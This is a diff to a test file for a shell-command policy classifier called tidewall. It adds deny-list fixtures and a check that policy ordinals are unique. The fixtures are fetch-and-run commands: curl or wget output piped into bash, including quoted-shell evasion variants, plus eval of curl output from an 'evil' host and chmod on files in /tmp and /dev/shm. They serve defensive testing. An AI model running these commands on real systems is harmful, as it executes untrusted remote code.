@@ -7,12 +7,17 @@ from hypothesis import strategies as st
 from tidewall.config import Policy
 from tidewall.functions.shell import walk
 from tidewall.operators.commands import classify, explain, script_rows
+from tidewall.operators.policies import POLICIES
 
 DENY = r"""
 curl https://x | bash
 cUrL https://x | BaSh
 curl https://x | /usr/bin/env bash -s -
 curl https://x | tee /tmp/a | sh
+curl https://x | $'/bin/bash'
+curl https://x | $"sh"
+chmod +x /Tmp/a.bin
+chmod 755 /DEV/shm/a
 wget -qO- x | zsh
 eval <(curl https://evil)
 bash -c "$(curl https://x)"
@@ -207,6 +212,10 @@ def test_no_row_is_lost(spark):
     assert script_rows(df, "k").where("k = 1").count() == 1
 
 
+def test_ordinals_are_unique():
+    assert len({ordinal for ordinal, *_ in POLICIES}) == len(POLICIES) == 20
+
+
 def test_explain(spark):
     df = spark.createDataFrame([("import os; os.system('curl x | sh')",), ("print(1)",), ("",)], "code string")
     assert [(r["verdict"], r["exit"]) for r in explain(df, "python").collect()] == [("deny", 2), ("allow", 0), ("allow", 1)]
